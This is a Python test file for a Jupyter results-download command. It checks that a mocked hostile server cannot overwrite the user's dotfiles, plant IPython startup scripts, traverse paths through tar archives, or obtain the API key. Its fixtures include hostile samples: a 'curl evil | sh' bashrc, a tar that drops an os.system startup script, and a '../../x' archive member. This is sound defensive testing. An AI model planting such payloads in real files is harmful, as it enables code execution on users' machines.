"""``%carmin results ID --to DIR`` against a hostile platform (httpx.MockTransport, no
sockets): results land in a folder of their own, dotfile names are defused, nothing that
was there is replaced or removed, returned URLs on other hosts get no key."""

from __future__ import annotations

import io
import tarfile

import httpx
import pytest
from IPython.core.error import UsageError

from egi_hub.carmin.magics.results import (
    UniqueNames,
    fetch_new,
    new_folder,
    safe_local_name,
)
from egi_hub.carmin.models import Path

KEY = "SECRET-KEY"


def _tar(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


EVIL_TAR = _tar({"profile_default/startup/00-evil.py": b"import os; os.system('x')\n"})


class HostilePlatform:
    def __init__(self, results: list[dict]):
        self.results = results
        self.seen: list[tuple[str, str | None]] = []

    def __call__(self, request: httpx.Request) -> httpx.Response:
        url = str(request.url)
        lower = url.lower()
        self.seen.append((url, request.headers.get("apikey")))
        if request.url.path == "/rest/platform":
            return httpx.Response(200, json={"platformName": "VIP"})
        if request.url.path.endswith("/results"):
            return httpx.Response(200, json=self.results)
        if "action=md5" in url:
            return httpx.Response(404)
        if "bashrc" in lower:
            return httpx.Response(200, content=b"curl evil | sh\n")
        if ".ipython.tar" in lower:
            return httpx.Response(200, content=EVIL_TAR)
        return httpx.Response(200, content=b"hi")


@pytest.fixture
def magics(monkeypatch):
    from egi_hub.carmin import magics as carmin_magics

    monkeypatch.setattr(carmin_magics, "display", lambda *a, **kw: None)
    monkeypatch.setattr("IPython.display.display", lambda *a, **kw: None)
    monkeypatch.setenv("CARMIN_WIDGETS", "0")
    monkeypatch.setenv("CARMIN_URL", "https://vip.example.org/rest")
    monkeypatch.setenv("CARMIN_API_KEY", KEY)
    monkeypatch.delenv("CARMIN_TOKEN", raising=False)
    m = carmin_magics.CarminMagics(None)
    m.shell = type("Shell", (), {"user_ns": {}})()
    yield m
    m.close_clients()


def test_dotfiles_and_archives_cannot_reach_the_users_home(magics, tmp_path, monkeypatch):
    home = tmp_path / "home"
    (home / ".ipython" / "profile_default" / "startup").mkdir(parents=True)
    (home / ".bashrc").write_text("# the user's\n")
    platform = HostilePlatform(
        [
            {"path": "/vip/Home/e/.bashrc", "isDirectory": False},
            {"path": "/vip/Home/e/.ipython.tar", "isDirectory": False},
            {"path": "/vip/Home/e/.IPYTHON.tar", "isDirectory": False},
            {"path": "https://files.evil.example/x/notes.txt", "isDirectory": False},
        ]
    )
    magics.client_options = {"transport": httpx.MockTransport(platform)}
    monkeypatch.chdir(home)
    magics.carmin("results e1 --to . -o files")
    assert (home / ".bashrc").read_text() == "# the user's\n"
    assert list((home / ".ipython" / "profile_default" / "startup").iterdir()) == []
    folder = home / "e1"
    assert sorted(p.name for p in folder.iterdir()) == sorted(
        ["_bashrc", "_ipython.tar", "_ipython", "2-_IPYTHON.tar", "2-_IPYTHON", "notes.txt"]
    )
    assert (folder / "_ipython" / "profile_default" / "startup" / "00-evil.py").exists()
    assert not any(p.name.startswith(".") for p in folder.rglob("*"))
    keys = {url: key for url, key in platform.seen}
    assert keys["https://files.evil.example/x/notes.txt"] is None
    assert all(key == KEY for url, key in platform.seen if "vip.example.org/rest/path" in url)


def test_results_go_beside_what_is_there(magics, tmp_path):
    (tmp_path / "e1").mkdir()
    (tmp_path / "e1" / "n.txt").write_text("mine")
    platform = HostilePlatform([{"path": "/vip/Home/e/n.txt", "isDirectory": False}])
    magics.client_options = {"transport": httpx.MockTransport(platform)}
    magics.carmin(f"results e1 --to {tmp_path}")
    assert (tmp_path / "e1" / "n.txt").read_text() == "mine"
    assert (tmp_path / "e1-2" / "n.txt").read_bytes() == b"hi"


def test_a_refused_archive_is_kept_as_a_file_and_said(magics, tmp_path):
    platform = HostilePlatform([{"path": "/vip/Home/e/.ipython.tar", "isDirectory": False}])
    platform_bad = _tar({"../../x": b"x"})
    handler = platform.__call__

    def bad(request):
        return (
            httpx.Response(200, content=platform_bad)
            if ".tar" in str(request.url) and ("content" in str(request.url))
            else handler(request)
        )

    magics.client_options = {"transport": httpx.MockTransport(bad)}
    with pytest.raises(UsageError, match=r"^carmin: _ipython.tar not unpacked: .*'\.\.'"):
        magics.carmin(f"results e1 --to {tmp_path}")
    assert sorted(p.name for p in (tmp_path / "e1").iterdir()) == ["_ipython.tar"]


@pytest.mark.parametrize(
    "name, expected",
    [
        (".bashrc", "_bashrc"),
        ("..", "_."),
        ("", "result"),
        ("a\\b", "a_b"),
        ("a\x1b[31mb", "a_[31mb"),
        ("a/b", "a_b"),
        ("caf\udce9.txt", "caf?.txt"),
        ("ü" * 300 + ".txt", "ü" * 98 + ".txt"),
    ],
)
def test_safe_local_name(name, expected):
    assert safe_local_name(name) == expected
    assert len(safe_local_name(name).encode()) <= 200


def test_unique_names_ignore_case():
    names = UniqueNames()
    assert [names.claim(n) for n in ("A.txt", "a.TXT", "a.txt")] == ["A.txt", "2-a.TXT", "3-a.txt"]
    assert names.claim("A.txt", ".contents") == "A.txt.contents"


def test_new_folder_never_reuses_one(tmp_path):
    first = new_folder(tmp_path, "exec/1")
    assert first.name == "exec_1"
    assert new_folder(tmp_path, "exec/1").name == "exec_1-2"
    assert new_folder(tmp_path, ".hidden").name == "_hidden"


def test_fetch_new_never_replaces_a_file_that_appeared(tmp_path):
    class Client:
        def download(self, source, dest, *, progress=None):
            dest.write_bytes(b"new")
            (tmp_path / "n.txt").write_text("appeared meanwhile")
            return dest

    from egi_hub.carmin.errors import CarminError

    with pytest.raises(CarminError, match="appeared meanwhile; not replacing"):
        fetch_new(Client(), Path("/p/n.txt", False), tmp_path / "n.txt", None)
    assert (tmp_path / "n.txt").read_text() == "appeared meanwhile"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["n.txt"]  # no temporary left
